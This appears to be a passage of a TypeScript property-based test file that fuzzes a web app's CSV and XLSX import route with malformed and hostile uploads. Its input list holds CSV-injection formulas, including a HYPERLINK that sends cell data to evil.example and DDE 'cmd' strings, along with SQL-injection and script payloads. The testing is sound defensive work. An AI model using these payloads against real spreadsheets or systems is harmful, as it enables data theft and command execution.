import fc from "fast-check";
import ExcelJS from "exceljs";
import JSZip from "jszip";
import { gzipSync } from "node:zlib";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { columns, IMPORT_LIMITS } from "../../shared/importFormat";
import { MAX_MAGNITUDE } from "../../shared/schemas";
import { MAX_UNPACKED_WORKBOOK_BYTES } from "../../server/imports/readSpreadsheet";
import type { ImportJobView } from "../../shared/importFormat";
import { databaseChecksum } from "../support/checksum";
import { getJob, useImportSession, waitForJob, settled } from "../support/importHttp";
import { adminSessionCookie, DEMO_ACCOUNTS } from "../support/testDatabase";
import { signInCookie, startTestServer } from "../support/testServer";
import { understatedZip } from "../support/understatedZip";

/*
 * Every upload route gets hostile files: malformed CSV (random bytes, binary garbage, wrong, missing and
 * duplicated headers, unbalanced quotes, huge fields, many columns, byte-order marks, mixed line endings,
 * numbers like NaN, 1e308 or "1.234,5", formula and script text), malformed XLSX (random bytes named
 * .xlsx, truncated and damaged real workbooks, zips that are not workbooks, workbooks with wrong sheets,
 * headers and cell types, formula cells) and oversized ones (bytes over 40 MB, rows over the limits).
 *
 * The upload route is POST /api/imports: into one pilot (`pilotId`: results or indicator definitions) or
 * whole projects (no `pilotId`, administrators). Each upload must end in one of:
 * - a refusal: a 4xx answer with a readable message, a failed job with a typed code (not INTERNAL) and a
 *   readable message, or a preview listing readable problems whose commit is refused; in each case every
 *   table's checksum is what it was before;
 * - an accepted file: the preview has no problem, its commit is done (or refused as a typed CONFLICT with no
 *   change, for a locked period), and uploading the same file again has nothing left to do (everything
 *   previewed was written), with no absurd number, over-long text or control character stored.
 * After every upload the server still answers.
 */

let running: Awaited<ReturnType<typeof startTestServer>>;
let baseUrl: string;
let adminCookie: string;
let coordinatorCookie: string;
let pilotId: number;
let otherPilotId: number;
let projectName: string;
let pilotTitle: string;
let templateXlsx: Uint8Array;
let templateCsv: string;
let projectWorkbook: Uint8Array;
let wordDocument: Uint8Array;

const tally = { cases: 0, accepted: 0, refusedStatus: 0, refusedJob: 0, refusedProblems: 0, refusedConflict: 0, byGroup: new Map<string, number>() };

beforeAll(async () => {
  running = await startTestServer();
  baseUrl = running.baseUrl;
  adminCookie = adminSessionCookie(running.db);
  useImportSession(baseUrl, adminCookie);
  coordinatorCookie = await signInCookie(baseUrl, running.db, DEMO_ACCOUNTS.coordinator);
  const sqlite = running.db.$client;
  const pilot = sqlite
    .prepare("SELECT p.id, p.title, j.name AS project, j.id AS projectId FROM pilots p JOIN projects j ON j.id = p.project_id WHERE p.title = '[Fictional] Valley Welcome Desk'")
    .get() as { id: number; title: string; project: string; projectId: number };
  pilotId = pilot.id;
  pilotTitle = pilot.title;
  projectName = pilot.project;
  otherPilotId = (sqlite.prepare("SELECT id FROM pilots WHERE id <> ? LIMIT 1").get(pilotId) as { id: number }).id;
  const download = async (path: string) => {
    const response = await fetch(`${baseUrl}${path}`, { headers: { cookie: adminCookie } });
    expect(response.status, path).toBe(200);
    return new Uint8Array(await response.arrayBuffer());
  };
  templateXlsx = await download(`/api/imports/templates/pilots/${pilotId}/results.xlsx`);
  templateCsv = new TextDecoder().decode(await download(`/api/imports/templates/pilots/${pilotId}/results.csv`));
  projectWorkbook = await download(`/api/exports/projects/${pilot.projectId}/project-data.xlsx`);
  wordDocument = await download(`/api/exports/pilots/${pilotId}/final-report.docx`);
}, 60_000);

afterAll(async () => {
  const groups = [...tally.byGroup].map(([group, n]) => `${group} ${n}`).join(", ");
  console.log(
    `hostile uploads: ${tally.cases} cases (${groups}); accepted and applied ${tally.accepted}; refused: ${tally.refusedStatus} by the HTTP answer, ` +
      `${tally.refusedJob} as a failed job, ${tally.refusedProblems} by listed problems, ${tally.refusedConflict} at commit as a conflict`,
  );
  await running?.stop();
});

// ---------------------------------------------------------------------------------------------------
// What a readable message is.

/** Text the file itself put into a message (problems quote the cell): not the server's words. */
const withoutQuotes = (message: string) => message.replace(/"[^"]*"/g, '""').replace(/“[^”]*”/g, "“”");

function expectReadable(message: unknown, where: string) {
  expect(typeof message, `${where}: the message is not text`).toBe("string");
  const text = message as string;
  expect(text.trim().length, `${where}: empty message`).toBeGreaterThan(8);
  expect(text.length, `${where}: message too long to read`).toBeLessThan(2_000);
  const own = withoutQuotes(text);
  expect(own, `${where}: ${text}`).not.toMatch(
    /internal|sqlite|SQL|stack|\bat \S+ \(|\.(ts|js|mjs):\d+|TypeError|ReferenceError|RangeError|\bundefined\b|\[object Object\]|\bNaN\b|ERR_/i,
  );
}

// ---------------------------------------------------------------------------------------------------
// Driving one upload, and checking its outcome.

interface Upload {
  body: Uint8Array | string | ReadableStream<Uint8Array>;
  fileName: string;
  /** null: whole projects; a number: into that pilot; a string: the raw query value, hostile or not. */
  pilot: number | string | null;
  cookie?: string | null;
  headers?: Record<string, string>;
}

async function post(upload: Upload): Promise<Response> {
  const query = new URLSearchParams({ fileName: upload.fileName });
  if (upload.pilot !== null) query.set("pilotId", String(upload.pilot));
  const cookie = upload.cookie === undefined ? adminCookie : upload.cookie;
  const body = upload.body instanceof Uint8Array ? new Blob([upload.body as Uint8Array<ArrayBuffer>]) : upload.body;
  return fetch(`${baseUrl}/api/imports?${query}`, {
    method: "POST",
    headers: { "content-type": "application/octet-stream", ...(cookie ? { cookie } : {}), ...upload.headers },
    body,
    ...(upload.body instanceof ReadableStream ? { duplex: "half" } : {}),
  } as RequestInit);
}

async function trpcPostAs(path: string, input: unknown, cookie: string) {
  const response = await fetch(`${baseUrl}/api/trpc/${path}`, { method: "POST", headers: { "content-type": "application/json", cookie }, body: JSON.stringify(input) });
  return { status: response.status, body: (await response.json()) as { result?: { data: ImportJobView }; error?: { message: string; data?: { code?: string } } } };
}

const CONTROL = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f]/;

/** What an accepted import must never leave behind. */
function absurdStoredValues(): string[] {
  const sqlite = running.db.$client;
  const found: string[] = [];
  const numbers = sqlite
    .prepare(
      `SELECT count(*) AS n FROM results WHERE abs(value) > ? OR abs(coalesce(respondents, 0)) > ? OR abs(coalesce(numerator, 0)) > ? OR abs(coalesce(denominator, 0)) > ?
          OR abs(cum_value) > 1e300 OR value <> value`,
    )
    .get(MAX_MAGNITUDE, MAX_MAGNITUDE, MAX_MAGNITUDE, MAX_MAGNITUDE) as { n: number };
  if (numbers.n > 0) found.push(`${numbers.n} results with an absurd number`);
  const indicatorNumbers = sqlite.prepare("SELECT count(*) AS n FROM indicators WHERE abs(goal) > ? OR abs(baseline) > ?").get(MAX_MAGNITUDE, MAX_MAGNITUDE) as { n: number };
  if (indicatorNumbers.n > 0) found.push(`${indicatorNumbers.n} indicators with an absurd number`);
  const texts: [string, string[], number][] = [
    ["results", ["comment"], 5000],
    ["results", ["entered_by"], 200],
    ["indicators", ["name", "unit", "goal_text", "code"], 5000],
    ["pilots", ["title", "partner_organisation", "location", "description"], 5000],
    ["projects", ["name", "programme"], 200],
  ];
  for (const [table, cols, max] of texts) {
    for (const column of cols) {
      for (const row of sqlite.prepare(`SELECT id, "${column}" AS text FROM "${table}" WHERE "${column}" IS NOT NULL`).all() as { id: number; text: string }[]) {
        if (CONTROL.test(row.text)) found.push(`${table}.${column} of ${row.id} holds a control character`);
        if (row.text.length > max) found.push(`${table}.${column} of ${row.id} holds ${row.text.length} characters`);
      }
    }
  }
  return found;
}

async function serverAnswers() {
  const response = await fetch(`${baseUrl}/api/trpc/auth.me`, { headers: { cookie: adminCookie } });
  expect(response.status, "the server stopped answering").toBe(200);
}

type Outcome = "refused" | "accepted";

/**
 * Uploads, follows the job, tries to commit, and checks that the outcome is one of the allowed ones.
 * `expect` narrows it where the case knows better (an oversized file must be refused).
 */
async function tryUpload(group: string, upload: Upload, expected: { outcome?: Outcome; status?: number; messageIncludes?: string } = {}): Promise<Outcome> {
  tally.cases++;
  tally.byGroup.set(group, (tally.byGroup.get(group) ?? 0) + 1);
  const where = `${group} (${upload.fileName})`;
  const before = databaseChecksum(running.db);
  const response = await post(upload);
  let outcome: Outcome;
  if (response.status !== 202) {
    const text = await response.text();
    expect(response.status, `${where}: ${text.slice(0, 300)}`).toBeGreaterThanOrEqual(400);
    expect(response.status, `${where}: ${text.slice(0, 300)}`).toBeLessThan(500);
    if (expected.status !== undefined) expect(response.status, where).toBe(expected.status);
    expect(response.headers.get("content-type") ?? "", where).toContain("application/json");
    // The upload route answers { error: "…" }; the same-origin guard in front of every write answers tRPC's shape.
    const body = JSON.parse(text) as { error: string | { message: string } };
    const error = typeof body.error === "string" ? body.error : body.error.message;
    expectReadable(error, where);
    if (expected.messageIncludes) expect(error, where).toContain(expected.messageIncludes);
    tally.refusedStatus++;
    outcome = "refused";
  } else {
    expect(expected.status ?? 202, where).toBe(202);
    const { jobId } = (await response.json()) as { jobId: string };
    // A job is its uploader's: they follow, commit and discard it.
    const owner = upload.cookie ?? adminCookie;
    useImportSession(baseUrl, owner);
    const trpcPost = (path: string, input: unknown) => trpcPostAs(path, input, owner);
    const job = await waitForJob(baseUrl, jobId, settled, 90_000);
    if (job.phase === "failed") {
      // A coordinator's file that sets up indicators is refused by the permission rules; anything else is the file's fault.
      const allowed = owner === coordinatorCookie ? ["BAD_REQUEST", "FORBIDDEN"] : ["BAD_REQUEST"];
      expect(allowed, `${where}: ${job.error!.code} ${job.error!.message}`).toContain(job.error!.code);
      expectReadable(job.error!.message, where);
      if (expected.messageIncludes) expect(job.error!.message, where).toContain(expected.messageIncludes);
      tally.refusedJob++;
      outcome = "refused";
    } else {
      expect(job.phase, where).toBe("ready");
      const preview = job.preview!;
      if (preview.problemCount > 0) {
        expect(preview.problems.length, where).toBeGreaterThan(0);
        for (const problem of preview.problems) {
          expectReadable(problem.message, `${where}, row ${problem.row} ${problem.column}`);
          expect(problem.row, where).toBeGreaterThanOrEqual(0);
        }
        const commit = await trpcPost("imports.commit", { jobId, token: preview.token });
        expect(commit.status, where).toBe(400);
        expectReadable(commit.body.error?.message, `${where}: the refused commit`);
        const discarded = await trpcPost("imports.discard", { jobId });
        expect(discarded.status, where).toBe(200);
        if (expected.messageIncludes) expect(preview.problems.map((p) => p.message).join(" "), where).toContain(expected.messageIncludes);
        tally.refusedProblems++;
        outcome = "refused";
      } else {
        const commit = await trpcPost("imports.commit", { jobId, token: preview.token });
        expect(commit.status, `${where}: ${JSON.stringify(commit.body.error)}`).toBe(200);
        const finished = await waitForJob(baseUrl, jobId, (j) => j.phase === "done" || j.phase === "failed", 90_000);
        if (finished.phase === "failed") {
          // A period submitted for review or approved is locked: a typed conflict, nothing written.
          expect(finished.error!.code, `${where}: ${finished.error!.message}`).toBe("CONFLICT");
          expectReadable(finished.error!.message, where);
          tally.refusedConflict++;
          outcome = "refused";
        } else {
          const { counts } = finished.outcome!;
          for (const kind of ["projects", "pilots", "indicators", "results"] as const) {
            expect(counts[kind].create, where).toBe(preview.counts[kind].create);
            expect(counts[kind].change, where).toBe(preview.counts[kind].change);
          }
          if (preview.nothingToDo) expect(databaseChecksum(running.db), `${where}: an import with nothing to do changed the database`).toBe(before);
          expect(absurdStoredValues(), where).toEqual([]);
          // Everything the preview promised was written: the same file again has nothing left to do.
          const again = await post(upload);
          expect(again.status, where).toBe(202);
          const second = await waitForJob(baseUrl, ((await again.json()) as { jobId: string }).jobId, settled, 90_000);
          expect(second.phase, `${where}: ${JSON.stringify(second.error ?? second.preview?.problems.slice(0, 3))}`).toBe("ready");
          expect(second.preview!.problemCount, where).toBe(0);
          expect(second.preview!.nothingToDo, `${where}: importing the file again would still write ${JSON.stringify(second.preview!.counts)}`).toBe(true);
          await trpcPost("imports.discard", { jobId: second.jobId });
          tally.accepted++;
          outcome = "accepted";
        }
      }
    }
  }
  useImportSession(baseUrl, adminCookie);
  if (outcome === "refused") expect(databaseChecksum(running.db), `${where} was refused but changed the database`).toBe(before);
  if (expected.outcome) expect(outcome, where).toBe(expected.outcome);
  await serverAnswers();
  return outcome;
}

// ---------------------------------------------------------------------------------------------------
// Generators.

const allColumns = [...new Set([...columns.results, ...columns.indicators, ...columns.pilots, ...columns.projects])];
const hostileTexts = [
  "NaN",
  "nan",
  "Infinity",
  "-Infinity",
  "1e308",
  "1E308",
  "-1e308",
  "1e-320",
  "1.234,5",
  "1,234.5",
  "1 234",
  "1e3",
  "0x10",
  "-0",
  "+5",
  "5.",
  " 7 ",
  "٣",
  "１２",
  "null",
  "undefined",
  "true",
  "FALSE",
  "#DIV/0!",
  "#N/A",
  '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
  "=1+1",
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)",
  "-2+3",
  "'=1+1",
  "=cmd|'/c calc'!A1",
  "<script>alert(1)</script>",
  '<img src=x onerror="alert(1)">',
  "'; DROP TABLE results; --",
  "1; DELETE FROM projects",
  "a\u0007b",
  "\u001b[31mred",
  "\u202eevil\u202c",
  "👩‍👩‍👧‍👦🇮🇹",
  "مرحبا بالعالم",
  "\uFEFFLANG-H",
  "\uD800",
  "9".repeat(400),
  "9".repeat(300),
  "1".repeat(20),
  "1000000000000",
  "1000000000001",
  "999999999999.5",
  "4".repeat(17),
  "2021-02-30",
  "2026-01-01",
  "9999-12-31",
  "0",
  "1",
  "2",
  "4",
  "5",
  "6",
  "8",
  "9",
  "10",
  "11",
  "-1",
  "0.5",
  "8,6",
  "8.6",
  "3,5,7",
  "count",
  "score",
  "percentage",
  "quantitative",
  "qualitative",
  "at_least",
  "at_most",
  "to_date",
  "increments",
  "quarterly",
  "monthly",
  '"',
  '""',
  '"unclosed',
  'a"b',
  "line\nbreak",
  "semi;colon",
  "tab\there",
  "comma,inside",
];
const hostileText = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...hostileTexts) },
  { weight: 3, arbitrary: fc.string({ maxLength: 20 }) },
  { weight: 2, arbitrary: fc.string({ unit: "grapheme", maxLength: 12 }) },
  { weight: 3, arbitrary: fc.double({ noDefaultInfinity: false }).map(String) },
  { weight: 3, arbitrary: fc.integer({ min: -10, max: 2_000_000 }).map(String) },
  { weight: 1, arbitrary: fc.constantFrom("x".repeat(6_000), "y".repeat(120_000)) },
);
/** Cells that name the pilot's real things, so that some rows get far into the checks. */
const realText = fc.constantFrom(
  ...[
    "LANG-H",
    "MIG-INV",
    "ORG-TUT",
    "PPL-INF",
    "SAT-MIG",
    "Hours of language courses delivered",
    "Participants completing the language course",
    "Volunteers trained as welcome buddies",
  ],
);
const csvCell = fc.oneof({ weight: 3, arbitrary: hostileText }, { weight: 2, arbitrary: realText }, { weight: 1, arbitrary: fc.constant("") });

const headerName = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...allColumns) },
  { weight: 2, arbitrary: fc.constantFrom(...allColumns).map((c) => ` ${c.toUpperCase()}  `) },
  { weight: 1, arbitrary: fc.constantFrom("", "Periode", "Valore", "Value ", "Notes", "Column1", "=Period", "<b>Value</b>", "Period\u0000") },
  { weight: 1, arbitrary: fc.string({ maxLength: 12 }) },
);

interface CsvShape {
  header: string[];
  rows: string[][];
  delimiter: string;
  lineEndings: string[];
  bom: "none" | "utf8" | "utf16le";
  quoting: "proper" | "raw" | "broken";
  extraColumns: number;
}

const csvShape = (rows: fc.Arbitrary<string[][]>, header: fc.Arbitrary<string[]>) =>
  fc.record<CsvShape>({
    header,
    rows,
    delimiter: fc.constantFrom(",", ";", "\t", ",", "|"),
    lineEndings: fc.array(fc.constantFrom("\n", "\r\n", "\r"), { minLength: 1, maxLength: 3 }),
    bom: fc.constantFrom("none", "utf8", "none", "utf16le"),
    quoting: fc.constantFrom("proper", "proper", "raw", "broken"),
    extraColumns: fc.constantFrom(0, 0, 0, 0, 300, 6_000),
  });

function csvBytes(shape: CsvShape): Uint8Array {
  const quote = (cell: string) => {
    if (shape.quoting === "raw") return cell;
    return /[",;\t|\r\n]/.test(cell) || cell.trim() !== cell ? `"${cell.replace(/"/g, '""')}"` : cell;
  };
  const extra = Array.from({ length: shape.extraColumns }, (_, i) => `Extra ${i}`);
  const lines = [[...shape.header, ...extra], ...shape.rows.map((row) => [...row, ...extra.map(() => "x")])].map((cells) => cells.map(quote).join(shape.delimiter));
  let text = "";
  lines.forEach((line, index) => (text += line + shape.lineEndings[index % shape.lineEndings.length]));
  // An opening quote that is never closed, somewhere in the file.
  if (shape.quoting === "broken") text = text.slice(0, Math.floor(text.length / 2)) + '"' + text.slice(Math.floor(text.length / 2));
  if (shape.bom === "utf16le") {
    const out = new Uint8Array(2 + text.length * 2);
    out.set([0xff, 0xfe]);
    for (let i = 0; i < text.length; i++) {
      out[2 + i * 2] = text.charCodeAt(i) & 0xff;
      out[3 + i * 2] = text.charCodeAt(i) >> 8;
    }
    return out;
  }
  return new TextEncoder().encode((shape.bom === "utf8" ? "\uFEFF" : "") + text);
}

/** Any header, any rows: mostly refusals, every one of them typed. */
const messyCsv = csvShape(fc.array(fc.array(csvCell, { minLength: 0, maxLength: 16 }), { maxLength: 12 }), fc.array(headerName, { minLength: 0, maxLength: 16 }));

/** A results file of the pilot, close to valid: real indicators and periods, values from sound to absurd. */
const resultValue = fc.oneof(
  { weight: 4, arbitrary: fc.integer({ min: 0, max: 500 }).map(String) },
  { weight: 2, arbitrary: fc.constantFrom("8,6", "8.6", "0", "10", "1") },
  { weight: 3, arbitrary: hostileText },
  { weight: 1, arbitrary: fc.constant("") },
);
const resultComment = fc.oneof({ weight: 4, arbitrary: fc.constantFrom("Courses went well", "Fewer people in summer", "") }, { weight: 1, arbitrary: hostileText });
const resultsRow = fc.tuple(
  fc.oneof({ weight: 5, arbitrary: fc.constantFrom(...["LANG-H", "MIG-INV", "ORG-TUT", "PPL-INF", "SAT-MIG"]) }, { weight: 1, arbitrary: csvCell }),
  fc.oneof({ weight: 6, arbitrary: fc.constantFrom("5", "5", "5", "4", "3", "6") }, { weight: 1, arbitrary: csvCell }),
  resultValue,
  fc.oneof(fc.constant(""), fc.integer({ min: 1, max: 40 }).map(String), hostileText),
  resultComment,
  fc.oneof({ weight: 4, arbitrary: fc.constant("") }, { weight: 1, arbitrary: hostileText }),
);
const resultsHeader = fc.constantFrom<string[]>(
  ["Code", "Period", "Value", "Respondents", "Comment", "Entered by"],
  ["code", "PERIOD", " value ", "Respondents", "comment", "entered by"],
);
const nearlyValidResultsCsv = csvShape(
  fc.array(
    resultsRow.map((r) => [...r]),
    { minLength: 1, maxLength: 3 },
  ),
  resultsHeader,
).map((shape) => ({ ...shape, extraColumns: 0 }));

/** An indicator definitions file, close to valid. */
const indicatorRow = fc.tuple(
  fc.oneof(fc.constant(""), fc.constantFrom("NEW-A", "NEW-B", "LANG-H"), hostileText),
  fc.oneof(fc.constantFrom("Families reached", "Hours of language courses delivered", "Visits to the desk"), hostileText),
  fc.oneof(fc.constantFrom("quantitative", "qualitative"), hostileText),
  fc.oneof(fc.constantFrom("count", "score", "percentage", "Count"), hostileText),
  fc.oneof(fc.constantFrom("increments", "to_date", ""), hostileText),
  fc.oneof(fc.integer({ min: 1, max: 1000 }).map(String), hostileText),
  fc.oneof(fc.constant(""), fc.constantFrom("1", "10"), hostileText),
  fc.oneof(fc.constant(""), fc.constantFrom("5", "10", "100"), hostileText),
);
const nearlyValidIndicatorsCsv = csvShape(
  fc.array(
    indicatorRow.map((r) => [...r]),
    { minLength: 1, maxLength: 4 },
  ),
  fc.constant(["Code", "Indicator", "Kind", "Measure", "Cumulation", "Goal", "Scale min", "Scale max"]),
).map((shape) => ({ ...shape, extraColumns: 0 }));

/** A sound results file for the open quarter: varied spelling and layout, values within the rules, each with a comment. */
const soundComment = fc.oneof(
  { weight: 12, arbitrary: fc.stringMatching(/^[A-Za-z0-9 ,.;'"éàü€()-]{1,60}$/).filter((c) => c.trim() !== "") },
  // Within every rule but the limits on text: must be refused, never stored.
  { weight: 1, arbitrary: fc.constantFrom("x".repeat(5_001), "Bell\u0007 in the comment", "Escape \u001b[31m") },
);
/** Numbers that read as numbers but no count or score can be: must be refused, never stored. */
const absurdNumber = fc.constantFrom("9".repeat(300), "1000000000001", "4".repeat(17), "-" + "9".repeat(20));
const soundEnteredBy = fc.oneof({ weight: 8, arbitrary: fc.constantFrom("", "Ana Rossi", "José") }, { weight: 1, arbitrary: fc.constantFrom("y".repeat(201), "Ana\u0000Rossi") });
const soundRow = fc.oneof(
  fc.tuple(
    fc.constantFrom("LANG-H", "MIG-INV", "PPL-INF", "lang-h"),
    fc.oneof(
      { weight: 12, arbitrary: fc.oneof(fc.integer({ min: 0, max: 1_000_000 }).map(String), fc.constantFrom("12,5", "0.25", " 40 ", "+7")) },
      { weight: 1, arbitrary: absurdNumber },
    ),
    fc.constant(""),
    soundComment,
    soundEnteredBy,
  ),
  fc.tuple(
    fc.constantFrom("SAT-MIG"),
    fc.oneof(fc.integer({ min: 1, max: 10 }).map(String), fc.constantFrom("7,5", "9.25")),
    fc.oneof({ weight: 12, arbitrary: fc.integer({ min: 1, max: 500 }).map(String) }, { weight: 1, arbitrary: absurdNumber }),
    soundComment,
    soundEnteredBy,
  ),
);
const soundResults = fc.record({
  rows: fc.uniqueArray(soundRow, { minLength: 1, maxLength: 4, selector: (row) => row[0].toUpperCase() }),
  header: fc.constantFrom<string[]>(["Code", "Period", "Value", "Respondents", "Comment", "Entered by"], ["code", "period", "VALUE", "respondents", " Comment ", "ENTERED BY"]),
});
const soundResultsCsv = fc
  .record({
    results: soundResults,
    delimiter: fc.constantFrom(",", ";", "\t"),
    lineEndings: fc.array(fc.constantFrom("\n", "\r\n"), { minLength: 1, maxLength: 2 }),
    bom: fc.constantFrom<CsvShape["bom"]>("none", "utf8"),
  })
  .map(
    ({ results, ...layout }): CsvShape => ({
      ...layout,
      header: results.header,
      rows: results.rows.map(([code, value, respondents, comment, by]) => [code, "5", value, respondents, comment, by]),
      quoting: "proper",
      extraColumns: 0,
    }),
  );
/** The same as a workbook, numbers as number cells (1e308 too), the sheet named Results or not. */
const soundResultsXlsx = fc
  .record({ results: soundResults, sheet: fc.constantFrom("Results", "Sheet1", "results"), numberCells: fc.boolean() })
  .map(({ results, sheet, numberCells }) => ({
    name: sheet,
    header: results.header,
    rows: results.rows.map(([code, value, respondents, comment, by]): ExcelJS.CellValue[] => {
      const asCell = (text: string) => (numberCells && text !== "" && Number.isFinite(Number(text.replace(",", "."))) ? Number(text.replace(",", ".")) : text);
      return [code, numberCells ? 5 : "5", asCell(value), asCell(respondents), comment, by];
    }),
  }));

/** Whole-project results: Project and Pilot columns, real or not. */
const projectResultsCsv = csvShape(
  fc.array(
    fc
      .tuple(fc.oneof(fc.constant("__project__"), hostileText), fc.oneof(fc.constant("__pilot__"), hostileText), resultsRow)
      .map(([project, pilot, row]) => [project, pilot, ...row]),
    { minLength: 1, maxLength: 5 },
  ),
  fc.constant(["Project", "Pilot", "Code", "Period", "Value", "Respondents", "Comment", "Entered by"]),
).map((shape) => ({ ...shape, extraColumns: 0, rows: shape.rows.map((r) => r.map((c) => (c === "__project__" ? projectName : c === "__pilot__" ? pilotTitle : c))) }));

// XLSX ------------------------------------------------------------------------------------------------

const xlsxCell: fc.Arbitrary<ExcelJS.CellValue> = fc.oneof(
  { weight: 3, arbitrary: csvCell },
  { weight: 2, arbitrary: fc.double({ noNaN: false, noDefaultInfinity: false }) },
  { weight: 2, arbitrary: fc.constantFrom(0, -0, 5, 1e308, -1e308, 5e-324, 2 ** 53 + 1, 1e12, 1e13, 0.5, 8.6) },
  { weight: 1, arbitrary: fc.boolean() },
  { weight: 1, arbitrary: fc.date({ min: new Date("1899-12-31"), max: new Date("2100-01-01"), noInvalidDate: true }) },
  {
    weight: 1,
    arbitrary: fc.constantFrom<ExcelJS.CellValue>(
      { formula: "1/0", result: { error: "#DIV/0!" } },
      { formula: "SUM(A1:A3)", result: 7 },
      { formula: 'HYPERLINK("http://evil.example","x")', result: "x" },
      { formula: "NOW()" } as ExcelJS.CellValue,
    ),
  },
  { weight: 1, arbitrary: fc.constantFrom<ExcelJS.CellValue>({ error: "#N/A" }, { error: "#REF!" }) as fc.Arbitrary<ExcelJS.CellValue> },
  {
    weight: 1,
    arbitrary: fc.constantFrom<ExcelJS.CellValue>({ richText: [{ text: "LANG" }, { text: "-H", font: { bold: true } }] }, { text: "LANG-H", hyperlink: "http://evil.example" }),
  },
  { weight: 1, arbitrary: fc.constant(null) },
);
const sheetName = fc.oneof(
  fc.constantFrom("Results", "Indicators", "Pilots", "Projects", "Sheet1", "About", " results ", "RESULTS", "Résultats"),
  fc.stringMatching(/^[A-Za-z0-9 ]{1,20}$/),
);
const xlsxSheet = fc.record({
  name: sheetName,
  header: fc.oneof(fc.array(headerName, { maxLength: 14 }), fc.constant([...columns.results]), fc.constant([...columns.indicators])),
  rows: fc.array(fc.array(xlsxCell, { maxLength: 14 }), { maxLength: 8 }),
});
const workbookShape = fc.array(xlsxSheet, { minLength: 0, maxLength: 4 });

async function workbookBytes(sheets: { name: string; header: readonly string[]; rows: ExcelJS.CellValue[][] }[]): Promise<Uint8Array> {
  const workbook = new ExcelJS.Workbook();
  const used = new Set<string>();
  for (const sheet of sheets) {
    let name = sheet.name.trim() || "Sheet";
    while (used.has(name.toLowerCase())) name = `${name}x`.slice(-31);
    used.add(name.toLowerCase());
    const worksheet = workbook.addWorksheet(name);
    worksheet.addRow([...sheet.header]);
    for (const row of sheet.rows) worksheet.addRow(row);
  }
  return new Uint8Array(await workbook.xlsx.writeBuffer());
}

// ---------------------------------------------------------------------------------------------------

describe("hostile uploads", () => {
  const seed = 20261123;

  it("answers malformed CSV on every route with a typed refusal or a sound import", async () => {
    await fc.assert(
      fc.asyncProperty(
        messyCsv,
        fc.constantFrom<"pilot" | "project">("pilot", "project"),
        fc.constantFrom("data.csv", "data.CSV", "data.txt", "results"),
        async (shape, route, fileName) => {
          await tryUpload(`messy CSV → ${route}`, { body: csvBytes(shape), fileName, pilot: route === "pilot" ? pilotId : null });
        },
      ),
      { numRuns: 200, seed },
    );
  }, 240_000);

  it("answers random bytes and binary garbage with a typed refusal", async () => {
    const garbage = fc.oneof(
      fc.uint8Array({ minLength: 1, maxLength: 4_096 }),
      fc.uint8Array({ minLength: 1, maxLength: 64 }).map((b) => Uint8Array.from([...b, 0, 0, 0, ...b])),
      fc.uint8Array({ minLength: 1, maxLength: 512 }).map((b) => Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...b])), // an old .xls (OLE) header
      fc.uint8Array({ minLength: 1, maxLength: 512 }).map((b) => Uint8Array.from([0x25, 0x50, 0x44, 0x46, ...b])), // %PDF
      fc.uint8Array({ minLength: 0, maxLength: 512 }).map((b) => Uint8Array.from([0x50, 0x4b, 0x03, 0x04, ...b])), // a zip's magic, then noise
      fc.uint8Array({ minLength: 1, maxLength: 512 }).map((b) => Uint8Array.from([0xff, 0xfe, ...b])),
    );
    await fc.assert(
      fc.asyncProperty(
        garbage,
        fc.constantFrom("data.csv", "data.xlsx", "data.xls", "photo.jpg", ""),
        fc.constantFrom<"pilot" | "project">("pilot", "project"),
        async (bytes, fileName, route) => {
          const outcome = await tryUpload("random bytes", { body: bytes, fileName, pilot: route === "pilot" ? pilotId : null });
          // Random bytes are never a file with results (a lucky header line would need letters in order).
          expect(outcome).toBe("refused");
        },
      ),
      { numRuns: 100, seed },
    );
  }, 240_000);

  it("checks nearly valid results, indicator and project files row by row: refusals are typed, acceptances are written whole", async () => {
    const files = fc.oneof(
      nearlyValidResultsCsv.map((shape) => ({ group: "results CSV → pilot", bytes: csvBytes(shape), pilot: pilotId as number | null })),
      soundResultsCsv.map((shape) => ({ group: "sound results CSV → pilot", bytes: csvBytes(shape), pilot: pilotId as number | null })),
      nearlyValidIndicatorsCsv.map((shape) => ({ group: "indicators CSV → pilot", bytes: csvBytes(shape), pilot: pilotId as number | null })),
      projectResultsCsv.map((shape) => ({ group: "results CSV → project", bytes: csvBytes(shape), pilot: null as number | null })),
    );
    let accepted = 0;
    await fc.assert(
      fc.asyncProperty(fc.oneof({ weight: 4, arbitrary: files }, { weight: 1, arbitrary: soundResultsXlsx }), fc.boolean(), async (file, asCoordinator) => {
        const upload =
          "bytes" in file
            ? { group: file.group, body: file.bytes, fileName: "file.csv", pilot: file.pilot }
            : { group: "sound results XLSX → pilot", body: await workbookBytes([file]), fileName: "file.xlsx", pilot: pilotId as number | null };
        // The pilot's coordinator may import into it as well as the administrator.
        const cookie = asCoordinator && upload.pilot !== null ? coordinatorCookie : adminCookie;
        if ((await tryUpload(upload.group, { ...upload, cookie })) === "accepted") accepted++;
      }),
      { numRuns: 250, seed },
    );
    // The generator is meant to reach the writing step too; a run where nothing is ever accepted tests less than it claims.
    expect(accepted).toBeGreaterThan(10);
  }, 300_000);

  it("answers malformed workbooks: wrong sheets, headers and cell types, formula cells", async () => {
    await fc.assert(
      fc.asyncProperty(workbookShape, fc.constantFrom<"pilot" | "project">("pilot", "project"), async (sheets, route) => {
        await tryUpload(`workbook → ${route}`, { body: await workbookBytes(sheets), fileName: "book.xlsx", pilot: route === "pilot" ? pilotId : null });
      }),
      { numRuns: 120, seed },
    );
  }, 300_000);

  it("answers damaged real workbooks and zips that are not workbooks", async () => {
    const damaged = fc.oneof(
      // Cut short anywhere.
      fc.tuple(fc.constantFrom("template", "project"), fc.double({ min: 0.01, max: 0.999, noNaN: true })).map(([which, at]) => {
        const bytes = which === "template" ? templateXlsx : projectWorkbook;
        return { kind: "truncated", bytes: bytes.slice(0, Math.max(4, Math.floor(bytes.length * at))) };
      }),
      // A few bytes changed.
      fc
        .tuple(
          fc.constantFrom("template", "project"),
          fc.array(fc.tuple(fc.double({ min: 0, max: 0.999, noNaN: true }), fc.integer({ min: 0, max: 255 })), { minLength: 1, maxLength: 8 }),
        )
        .map(([which, flips]) => {
